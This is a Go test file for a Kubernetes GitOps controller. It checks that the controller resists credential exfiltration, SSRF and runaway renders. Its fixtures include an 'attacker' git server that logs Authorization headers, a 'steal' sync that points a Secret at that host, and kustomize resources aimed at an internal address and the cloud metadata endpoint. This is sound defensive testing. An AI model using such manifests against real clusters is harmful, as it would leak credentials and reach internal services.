package controller

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"sluice.dev/sluice/api/v1alpha1"
	"sluice.dev/sluice/internal/credentials"
	"sluice.dev/sluice/internal/sandbox"
	"sluice.dev/sluice/internal/testenv"
)

// attacker is a git server of someone who can push to a team's
// repository, recording every credential sent to it.
type attacker struct {
	git  *testenv.GitServer
	mu   sync.Mutex
	auth []string
}

func newAttacker(t *testing.T) *attacker {
	a := &attacker{}
	a.git = testenv.NewGitServer(t, testenv.WithHook(func(r *http.Request) {
		if h := r.Header.Get("Authorization"); h != "" {
			a.mu.Lock()
			a.auth = append(a.auth, h)
			a.mu.Unlock()
		}
	}))
	url := a.git.CreateRepo(t, "loot")
	w := testenv.NewWork(t, url)
	w.Write(map[string]string{"deploy/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: loot}\n"}).Commit("bait")
	w.Push("main")
	return a
}

func (a *attacker) received() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.auth...)
}

// repoConfigReady waits until a RepoConfig settled on its generation and
// last reconcile request, with Ready as want.
func (e *env) repoConfigReady(rc client.Object, want metav1.ConditionStatus, d time.Duration) *v1alpha1.RepoConfig {
	e.t.Helper()
	var obj *v1alpha1.RepoConfig
	e.eventually(d, func() string {
		obj = &v1alpha1.RepoConfig{}
		if err := e.c.Get(context.Background(), client.ObjectKeyFromObject(rc), obj); err != nil {
			return err.Error()
		}
		c := meta.FindStatusCondition(obj.Status.Conditions, v1alpha1.ConditionReady)
		if c == nil || c.Status != want || obj.Status.ObservedGeneration != obj.Generation ||
			obj.Status.LastHandledReconcileAt != obj.Annotations[v1alpha1.ReconcileRequestAnnotation] {
			return "RepoConfig not settled: " + condString(c)
		}
		return ""
	})
	return obj
}

// TestFoundResourcesGetOnlyWhatTheRepoConfigLends, as an attacker who can
// push to one team's repository: a ManifestSync found there that names
// one of the namespace's Secrets and a source on the attacker's host is
// refused, naming the file and field; one that names none gets nothing
// on the attacker's host; the Secret the RepoConfig lends for the team's
// own git host reads the private repository, and only there.
func TestFoundResourcesGetOnlyWhatTheRepoConfigLends(t *testing.T) {
	t.Parallel()
	e := newEnvWith(t, "bot", "t0ken-value")
	evil := newAttacker(t)
	e.start()
	ctx := context.Background()
	if err := e.c.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "git", Namespace: e.ns},
		StringData: map[string]string{"username": "bot", "password": "t0ken-value"}}); err != nil {
		t.Fatal(err)
	}
	found := func(yaml string) {
		e.app.Write(map[string]string{".sluice/found.yaml": strings.ReplaceAll(e.expand(yaml, ""), "EVIL", evil.git.URL("loot"))}).Commit("found")
		e.app.Push("main")
	}
	found(`apiVersion: sluice.dev/v1alpha1
kind: ManifestSync
metadata: {name: steal}
spec:
  source: {repo: EVIL, path: deploy, secretRef: {name: git}}
  destination: {repo: EVIL, branch: main, path: out}
`)
	rc := e.apply(`apiVersion: sluice.dev/v1alpha1
kind: RepoConfig
metadata: {name: app}
spec:
  repo: APP
  secretRef: {name: git}
  globs: [".sluice/*.yaml"]
  interval: 1h
  credentials:
    git:
    - url: APP
      secretRef: {name: git}
`)
	obj := e.repoConfigReady(rc, metav1.ConditionFalse, 30*time.Second)
	c := meta.FindStatusCondition(obj.Status.Conditions, v1alpha1.ConditionReady)
	if !strings.Contains(c.Message, "found.yaml") || !strings.Contains(c.Message, "spec.source.secretRef") || !strings.Contains(c.Message, "names no Secret") {
		t.Fatalf("a found sync naming a Secret: %q", c.Message)
	}
	if got := evil.received(); len(got) > 0 {
		t.Fatalf("the attacker received credentials: %q", got)
	}

	// No Secret named: the attacker's host gets none, the team's own
	// private repository is read with the Secret lent for its host.
	found(`apiVersion: sluice.dev/v1alpha1
kind: ManifestSync
metadata: {name: steal}
spec:
  source: {repo: EVIL, path: deploy}
  destination: {repo: DST, branch: env/found, path: apps/loot}
---
apiVersion: sluice.dev/v1alpha1
kind: ManifestSync
metadata: {name: web}
spec:
  source: {repo: ., path: deploy/web}
  images: [{name: REG/team/app}]
  destination: {repo: DST, branch: env/found, path: apps/web}
`)
	e.requestReconcile(obj, "again")
	obj = e.repoConfigReady(rc, metav1.ConditionTrue, 30*time.Second)
	results := map[string]string{}
	for _, s := range obj.Status.ManifestSyncs {
		results[s.Name] = s.Result + " " + s.Error
	}
	if !strings.HasPrefix(results["web"], "committed") || !strings.HasPrefix(results["steal"], "committed") {
		t.Fatalf("found syncs: %v", results)
	}
	if got := evil.received(); len(got) > 0 {
		t.Fatalf("the attacker received credentials: %q", got)
	}
	tree := e.dst("ls-tree", "-r", "--name-only", "env/found")
	if !strings.Contains(tree, "apps/web/deployment-web.yaml") {
		t.Fatalf("the team's sync was not hydrated with the lent Secret:\n%s", tree)
	}
}

// TestALentRegistrySecretAnswersOnlyForItsHost: a dockerconfigjson
// Secret lent for one registry gives found resources that registry's
// entry only, though it holds others.
func TestALentRegistrySecretAnswersOnlyForItsHost(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	cfg := `{"auths":{"registry.team.example":{"username":"team","password":"team-pw"},"registry.other.example":{"username":"other","password":"other-pw"}}}`
	if err := e.c.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "regcred", Namespace: e.ns}, Type: corev1.SecretTypeDockerConfigJson,
		StringData: map[string]string{corev1.DockerConfigJsonKey: cfg}}); err != nil {
		t.Fatal(err)
	}
	lender := credentials.NewSecrets(e.c).Lender(e.ns, v1alpha1.FoundCredentials{
		Registries: []v1alpha1.RegistryCredential{{Host: "registry.team.example", SecretRef: v1alpha1.SecretRef{Name: "regcred"}}},
	})
	kc, id, err := lender.Registry(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(id, "regcred") {
		t.Errorf("identity %q does not name the Secret", id)
	}
	for host, want := range map[string]string{"registry.team.example": "team", "registry.other.example": "", "evil.example": ""} {
		reg, err := name.NewRegistry(host)
		if err != nil {
			t.Fatal(err)
		}
		a, err := kc.Resolve(reg)
		if err != nil {
			t.Fatal(err)
		}
		got, err := a.Authorization()
		if err != nil {
			t.Fatal(err)
		}
		if got.Username != want {
			t.Errorf("%s gets user %q, want %q", host, got.Username, want)
		}
	}
	bad := credentials.NewSecrets(e.c).Lender(e.ns, v1alpha1.FoundCredentials{
		Registries: []v1alpha1.RegistryCredential{{Host: "registry.missing.example", SecretRef: v1alpha1.SecretRef{Name: "regcred"}}},
	})
	if _, _, err := bad.Registry(ctx); err == nil || !strings.Contains(err.Error(), "no auths entry for registry.missing.example") {
		t.Errorf("a Secret lent for a host it has no entry for: %v", err)
	}
}

// TestRemoteBasesReachOnlyWhatTheOperatorAllows, as a team that writes
// a kustomization naming the controller's network: a remote file on an
// address the allow-list does not name (here 127.0.0.2, where the
// "internal service" listens; the operator allowed 127.0.0.1) and the
// cloud metadata address are refused and never reached; with
// --no-remote-bases, a remote base the allow-list would let through is
// refused too.
func TestRemoteBasesReachOnlyWhatTheOperatorAllows(t *testing.T) {
	t.Parallel()
	var hits atomic.Int64
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("no second loopback address here: %v", err)
	}
	internal := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		io.WriteString(w, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: internal-secrets}\ndata: {token: s3cret}\n")
	})}
	go internal.Serve(ln)
	t.Cleanup(func() { internal.Close() })

	e := newEnv(t)
	e.app.Write(map[string]string{
		"deploy/ssrf/kustomization.yaml":     "resources:\n- http://" + ln.Addr().String() + "/config.yaml\n",
		"deploy/metadata/kustomization.yaml": "resources:\n- http://169.254.169.254/latest/meta-data/config.yaml\n",
		"deploy/base/kustomization.yaml":     "resources:\n- " + e.appURL + "//deploy/kbase?ref=main\n",
		"deploy/kbase/kustomization.yaml":    "resources: [cm.yaml]\n",
		"deploy/kbase/cm.yaml":               "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: from-base}\n",
	}).Commit("remote resources")
	e.app.Push("main")
	e.start()
	for _, name := range []string{"ssrf", "metadata", "base"} {
		e.apply(strings.NewReplacer("name: web", "name: "+name, "path: deploy/web", "path: deploy/"+name, "apps/web", "apps/"+name).Replace(webSync))
	}
	for name, want := range map[string]string{"ssrf": "127.0.0.2", "metadata": "169.254.169.254"} {
		ms := e.ready(name, metav1.ConditionFalse, 30*time.Second)
		c := meta.FindStatusCondition(ms.Status.Conditions, v1alpha1.ConditionReady)
		if !strings.Contains(c.Message, want) || !strings.Contains(c.Message, "refused unless --allow-remote-hosts names it") {
			t.Errorf("%s: %q", name, c.Message)
		}
	}
	e.ready("base", metav1.ConditionTrue, 30*time.Second)
	if n := hits.Load(); n != 0 {
		t.Fatalf("the internal service was reached %d times", n)
	}
	if tree := e.dst("ls-tree", "-r", "--name-only", "env/dev"); strings.Contains(tree, "apps/ssrf") {
		t.Fatalf("something was committed:\n%s", tree)
	}

	// The same controller with --no-remote-bases: even an allowed base is
	// refused.
	e2 := newEnv(t)
	e2.app.Write(map[string]string{
		"deploy/base/kustomization.yaml":  "resources:\n- " + e2.appURL + "//deploy/kbase?ref=main\n",
		"deploy/kbase/kustomization.yaml": "resources: [cm.yaml]\n",
		"deploy/kbase/cm.yaml":            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: from-base}\n",
	}).Commit("a remote base")
	e2.app.Push("main")
	e2.start(func(o *Options) { o.NoRemoteBases = true })
	e2.apply(strings.NewReplacer("name: web", "name: base", "path: deploy/web", "path: deploy/base").Replace(webSync))
	ms := e2.ready("base", metav1.ConditionFalse, 30*time.Second)
	if c := meta.FindStatusCondition(ms.Status.Conditions, v1alpha1.ConditionReady); !strings.Contains(c.Message, "--no-remote-bases") {
		t.Errorf("a remote base under --no-remote-bases: %q", c.Message)
	}
}

// TestARenderPastItsTimeoutLeavesNothingRunning, as a team whose chart
// loops for ever: the render is killed at its timeout, the sync says so,
// and nothing of it runs on (an abandoned render goroutine kept 94% of a
// core busy, and each retry added another). Not parallel: it reads this
// process's CPU time.
func TestARenderPastItsTimeoutLeavesNothingRunning(t *testing.T) {
	e := newEnv(t)
	e.app.Write(map[string]string{
		"charts/spin/Chart.yaml":        "apiVersion: v2\nname: spin\nversion: 0.1.0\n",
		"charts/spin/templates/cm.yaml": "{{ range 100000000000 }}{{ end }}\n",
	}).Commit("a chart that spins")
	e.app.Push("main")
	addrs, _ := e.start(func(o *Options) { o.Limits.Timeout = 2 * time.Second })
	e.apply(strings.NewReplacer("name: web", "name: spin", "path: deploy/web", "path: charts/spin", "apps/web", "apps/spin").Replace(webSync))
	ms := e.ready("spin", metav1.ConditionFalse, 60*time.Second)
	if c := meta.FindStatusCondition(ms.Status.Conditions, v1alpha1.ConditionReady); !strings.Contains(c.Message, "render timed out after 2s") || !strings.Contains(c.Message, "charts/spin/templates/cm.yaml") {
		t.Fatalf("the sync says: %q", c.Message)
	}
	// The next retry is 5 s after the failure: until then no worker
	// process is left, and none uses any CPU (a worker that ended in the
	// window would add its CPU to this process's reaped children's).
	var before, after, children, childrenAfter syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &before)
	syscall.Getrusage(syscall.RUSAGE_CHILDREN, &children)
	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		if n := runningWorkers(t); n > 0 {
			t.Fatalf("%d render worker(s) still run after the timeout killed the render", n)
		}
	}
	syscall.Getrusage(syscall.RUSAGE_SELF, &after)
	syscall.Getrusage(syscall.RUSAGE_CHILDREN, &childrenAfter)
	cpu := func(r syscall.Rusage) time.Duration { return time.Duration(r.Utime.Nano() + r.Stime.Nano()) }
	if used := cpu(childrenAfter) - cpu(children); used != 0 {
		t.Errorf("render workers used %s of CPU in the 2 s after the timeout, with nothing to render", used)
	}
	if used := cpu(after) - cpu(before); used > 500*time.Millisecond {
		t.Errorf("the controller used %s of CPU in the 2 s after the timeout, with nothing to render", used)
	}
	// An operator sees it on the metrics endpoint.
	m := scrape(t, addrs.Metrics)
	if v := m[`sluice_render_workers_killed_total{limit="timeout"}`]; v != 1 {
		t.Errorf("sluice_render_workers_killed_total{limit=\"timeout\"} is %v, want the one render", v)
	}
	if v := m["sluice_render_workers_landlock_abi"]; v < 1 {
		t.Errorf("sluice_render_workers_landlock_abi is %v: workers run unconfined", v)
	}
	// The killed worker spun one template loop, on one thread, for its
	// 2 s: most of 2 s of CPU, and not much more than its wall time.
	if v, n := m["sluice_render_worker_cpu_seconds_sum"], m["sluice_render_worker_cpu_seconds_count"]; n != 1 || v < 0.8 || v > 2.5 {
		t.Errorf("the killed worker spun for 2 s, yet sluice_render_worker_cpu_seconds has sum %v over %v workers", v, n)
	}
	// A worker is a Go process holding a chart: tens of MiB, under its
	// memory limit.
	if sum, n := m["sluice_render_worker_peak_bytes_sum"], m["sluice_render_worker_peak_bytes_count"]; n != 1 || sum < 16<<20 || sum > float64(sandbox.DefaultLimits().Memory) {
		t.Errorf("metrics: %v workers' peaks, %.0f bytes in all", n, sum)
	}
}

// scrape reads a controller's metrics: each sample by its name and
// labels as the text format writes them.
func scrape(t *testing.T, addr string) map[string]float64 {
	t.Helper()
	resp, err := http.Get("http://" + addr + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /metrics: %d %v", resp.StatusCode, err)
	}
	m := map[string]float64{}
	for _, line := range strings.Split(string(body), "\n") {
		i := strings.LastIndexByte(line, ' ')
		if line == "" || line[0] == '#' || i < 0 {
			continue
		}
		v, err := strconv.ParseFloat(line[i+1:], 64)
		if err == nil {
			m[line[:i]] = v
		}
	}
	return m
}

// runningWorkers counts this process's render workers still running.
func runningWorkers(t *testing.T) int {
	t.Helper()
	me := fmt.Sprint(os.Getpid())
	entries, _ := os.ReadDir("/proc")
	n := 0
	for _, d := range entries {
		stat, err := os.ReadFile("/proc/" + d.Name() + "/stat")
		if err != nil {
			continue
		}
		fields := strings.Fields(string(stat[strings.LastIndexByte(string(stat), ')')+1:]))
		cmdline, _ := os.ReadFile("/proc/" + d.Name() + "/cmdline")
		if len(fields) > 1 && fields[1] == me && fields[0] != "Z" && strings.Contains(string(cmdline), sandbox.WorkerArg) {
			n++
		}
	}
	return n
}

// TestAReplayedWebhookIsIgnored, as someone who saw a valid delivery go
// by: sending it again asks nothing of the controller; a new delivery
// is acted on. The same for a registry's notification.
func TestAReplayedWebhookIsIgnored(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	addrs, _ := e.start()
	e.apply(webSync)
	e.ready("web", metav1.ConditionTrue, 30*time.Second)
	e.receiver("hooks", "s3cret")
	hookURL := "http://" + addrs.Hook + "/hook/" + e.ns + "/hooks"
	asked := func() string { return e.sync("web").Annotations[v1alpha1.ReconcileRequestAnnotation] }

	push := fmt.Sprintf(`{"ref":"refs/heads/main","repository":{"clone_url":%q}}`, e.appURL)
	signed := func(delivery string) map[string]string {
		return map[string]string{"X-GitHub-Event": "push", "X-GitHub-Delivery": delivery, "X-Hub-Signature-256": "sha256=" + sign("s3cret", push)}
	}
	if code, body := post(t, hookURL, push, signed("d-1")); code != http.StatusAccepted || !strings.Contains(body, "ManifestSync/web") {
		t.Fatalf("a delivery: %d %s", code, body)
	}
	first := asked()
	if code, body := post(t, hookURL, push, signed("d-1")); code != http.StatusOK || !strings.Contains(body, "delivery d-1 was acted on already") {
		t.Fatalf("the delivery replayed: %d %s", code, body)
	}
	if got := asked(); got != first {
		t.Fatalf("the replay asked for a reconcile: %q, after %q", got, first)
	}
	if code, _ := post(t, hookURL, push, signed("d-2")); code != http.StatusAccepted {
		t.Fatalf("a new delivery: %d", code)
	}

	note := fmt.Sprintf(`{"events":[{"id":"ev-1","action":"push","target":{"repository":"team/app","tag":"v1"},"request":{"host":%q}}]}`, e.reg.Host)
	bearer := map[string]string{"Authorization": "Bearer s3cret"}
	if code, body := post(t, hookURL, note, bearer); code != http.StatusAccepted {
		t.Fatalf("a notification: %d %s", code, body)
	}
	if code, body := post(t, hookURL, note, bearer); code != http.StatusOK || !strings.Contains(body, "delivery ev-1 was acted on already") {
		t.Fatalf("the notification replayed: %d %s", code, body)
	}
}
